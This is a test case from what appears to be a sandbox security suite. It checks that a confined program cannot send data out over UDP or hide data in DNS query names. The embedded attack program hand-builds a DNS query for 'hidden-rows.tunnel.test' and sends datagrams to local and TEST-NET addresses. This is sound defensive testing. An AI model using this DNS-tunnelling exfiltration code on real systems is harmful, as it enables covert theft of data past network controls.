"""Row 20: datagrams out, and hidden rows in the names of DNS queries."""

import socket

from sandbox.guarantees import Guarantee
from tests.attacks.arena import Arena
from tests.attacks.host import listening, own_addresses
from tests.attacks.registry import case

# The query is written by hand: the machine's own resolver may ask nobody.
PROGRAM = """
import struct

def query(name):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack(">6H", 7, 0x0100, 1, 0, 0, 0) + labels + bytes(1) + struct.pack(">2H", 1, 1)

def attack(addresses, port, names):
    for address in addresses:
        for message in (b"hidden rows", query("hidden-rows.tunnel.test")):
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
                try:
                    out.sendto(message, (address, port))
                    print("sent")
                except OSError:
                    print("refused")
    for name in names:
        try:
            print("resolved", socket.getaddrinfo(name, 80)[0][4][0])
        except OSError:
            print("unresolved")
"""


@case(20, "UDP and DNS out", needs=(Guarantee.NO_NETWORK,))
def udp(arena: Arena) -> None:
    addresses = [*own_addresses(), "192.0.2.1"]
    with listening(socket.SOCK_DGRAM) as listener:
        after = arena.attack(
            PROGRAM, addresses=addresses, port=listener.port, names=["hidden-rows.tunnel.test"]
        )
    assert listener.received == []
    # Loopback is there, with nobody on it: what is sent to it goes nowhere.
    assert after.lines[-3:] == ["refused", "refused", "unresolved"]
    assert (after.state, after.outcome) == ("scored", "ok")


@udp.control
def the_listener_hears_a_process_of_the_machine(arena: Arena) -> None:
    addresses = own_addresses()
    with listening(socket.SOCK_DGRAM) as listener:
        seen = arena.undefended(
            PROGRAM, addresses=addresses, port=listener.port, names=["localhost"]
        )
    assert seen.lines[:-1] == ["sent"] * 2 * len(addresses)
    assert seen.lines[-1].startswith("resolved")
    assert listener.received.count(b"hidden rows") == len(addresses)
    assert sum(b"hidden-rows" in message for message in listener.received) == len(addresses)
